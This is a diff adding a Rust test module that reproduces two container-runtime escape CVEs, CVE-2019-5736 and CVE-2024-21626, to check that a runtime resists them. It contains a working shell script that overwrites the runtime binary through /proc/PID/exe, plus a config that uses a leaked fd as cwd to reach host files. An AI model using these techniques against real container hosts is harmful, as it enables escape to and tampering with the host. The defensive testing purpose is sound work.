@@ -1,0 +1,124 @@
+//! Known runtime escapes (runc's CVEs), each tried from inside a container.
+
+use super::{ensure, field};
+use crate::bundle::config;
+use crate::ctx::Ctx;
+use crate::{Case, CaseResult};
+use serde_json::json;
+
+pub fn cases() -> Vec<Case> {
+    vec![
+        Case::new("escape_runtime_binary_unreachable", runtime_binary),
+        Case::new("escape_cwd_through_leaked_fd", cwd_leaked_fd),
+    ]
+}
+
+/// CVE-2019-5736: while a container is `created`, its init is still the runtime's
+/// binary. An attacker in the same pid namespace (a pod) opens /proc/PID/exe of that
+/// init, waits for it to go away, then writes through the fd, which would overwrite the
+/// runtime on the host. The victim runs from a copy of the runtime, which must come out
+/// unchanged (corral's init is not dumpable, so the open fails; runc 1.1.5 runs its init
+/// from an anonymous copy, so the write lands there).
+fn runtime_binary(cx: &mut Ctx) -> CaseResult {
+    let copy = cx.dir.join("runtime-copy");
+    std::fs::copy(&cx.runtime, &copy).map_err(|e| format!("copy the runtime: {e}"))?;
+    let original = std::fs::read(&copy).map_err(|e| e.to_string())?;
+    let sandbox = cx.bundle(&config(&["sleep", "1000"]))?;
+    cx.rt(&["run", "-d", "--bundle", &sandbox.to_string_lossy(), "pod"])
+        .ok("run the pod sandbox")?;
+    let pod = cx.state("pod")?["pid"].as_i64().unwrap_or(0);
+    let join = |cfg: &mut serde_json::Value| {
+        cfg["linux"]["namespaces"] = json!([
+            { "type": "mount" }, { "type": "ipc" }, { "type": "uts" }, { "type": "network" },
+            { "type": "pid", "path": format!("/proc/{pod}/ns/pid") }
+        ]);
+        cfg.as_object_mut().unwrap().remove("hostname");
+    };
+    // Victim and attacker have the same capabilities, as with `exec` into a container:
+    // then only the init's dumpable flag stands between them (with fewer capabilities than
+    // its target, a process may not reach it anyway).
+    let caps = json!(["CAP_AUDIT_WRITE", "CAP_KILL", "CAP_NET_BIND_SERVICE"]);
+    let caps = json!({ "bounding": caps, "effective": caps, "permitted": caps });
+    let mut victim = config(&["true"]);
+    victim["process"]["capabilities"] = caps.clone();
+    join(&mut victim);
+    let vb = cx.bundle(&victim)?;
+    let runtime = std::mem::replace(&mut cx.runtime, copy.clone());
+    let created = cx.rt(&["create", "--bundle", &vb.to_string_lossy(), "victim"]);
+    cx.runtime = runtime;
+    created.ok("create the victim with the runtime's copy")?;
+    let vpid = cx.state("victim")?["pid"].as_i64().unwrap_or(0);
+    // The attacker: an ordinary container (no CAP_SYS_PTRACE, with which root may ptrace
+    // anything by design) in the pod's pid namespace.
+    let mut cfg = config(&[]);
+    join(&mut cfg);
+    cfg["process"]["capabilities"] = caps;
+    // `command exec`: a failed redirection of a plain `exec` would end the shell.
+    let script = "for d in /proc/[0-9]*; do \
+                    case $(cat $d/comm 2>/dev/null) in runtime-copy|runc*) p=${d#/proc/};; esac; done; \
+                  echo target=$p; \
+                  if command exec 3</proc/$p/exe; then echo opened=yes; else echo opened=no; fi; \
+                  i=0; while [ -e /proc/$p ] && [ $i -lt 100 ]; do sleep 0.1; i=$((i+1)); done; \
+                  echo gone=$i; \
+                  if echo pwned >/proc/self/fd/3; then echo wrote=yes; else echo wrote=no; fi";
+    cfg["process"]["args"] = json!(["sh", "-c", script]);
+    let ab = cx.bundle(&cfg)?;
+    let (child, out_path) = cx.rt_spawn(&["run", "--bundle", &ab.to_string_lossy(), "attacker"])?;
+    // Let the attacker find and open the victim's init, then end the victim.
+    let start = std::time::Instant::now();
+    while !std::fs::read_to_string(&out_path)
+        .unwrap_or_default()
+        .contains("opened=")
+        && start.elapsed() < std::time::Duration::from_secs(10)
+    {
+        std::thread::sleep(std::time::Duration::from_millis(20));
+    }
+    cx.rt(&["delete", "--force", "victim"])
+        .ok("delete the victim")?;
+    // The victim's init is our child (we are a subreaper): reap it, or the pod's pid 1
+    // cannot finish dying when the cleanup deletes the pod.
+    crate::ctx::reap();
+    crate::ctx::wait_child(child)?;
+    let out = std::fs::read_to_string(&out_path).unwrap_or_default();
+    ensure!(
+        field(&out, "target").is_some_and(|t| !t.is_empty()),
+        "the attacker did not find the victim's init (host pid {vpid}): {out}"
+    );
+    let now = std::fs::read(&copy).map_err(|e| e.to_string())?;
+    ensure!(
+        now == original,
+        "the runtime binary on the host was changed through /proc/PID/exe: {out}"
+    );
+    Ok(())
+}
+
+/// CVE-2024-21626: a `cwd` of `/proc/self/fd/3`, where fd 3 is a host directory passed
+/// with `--preserve-fds`, would start the process in the host's filesystem. The runtime
+/// must refuse it, and leave nothing behind.
+fn cwd_leaked_fd(cx: &mut Ctx) -> CaseResult {
+    let host_dir = cx.dir.join("host-secret");
+    std::fs::create_dir_all(&host_dir).map_err(|e| e.to_string())?;
+    std::fs::write(host_dir.join("secret"), "host").map_err(|e| e.to_string())?;
+    let mut cfg = config(&["sh", "-c", "cat secret; echo escaped"]);
+    cfg["process"]["cwd"] = json!("/proc/self/fd/3");
+    let b = cx.bundle(&cfg)?;
+    let b = b.to_string_lossy().into_owned();
+    let o = cx.rt_with_fd3_on(
+        &["run", "--preserve-fds", "1", "--bundle", &b, "c1"],
+        &host_dir,
+    );
+    ensure!(
+        !o.stdout.contains("escaped") && !o.stdout.contains("host"),
+        "the process ran in the host directory: {}",
+        o.stdout
+    );
+    o.failed("run with cwd /proc/self/fd/3")?;
+    if cx.is_corral {
+        ensure!(
+            o.stderr.contains("process.cwd"),
+            "the error does not name process.cwd: {}",
+            o.stderr.trim()
+        );
+    }
+    Ok(())
+}
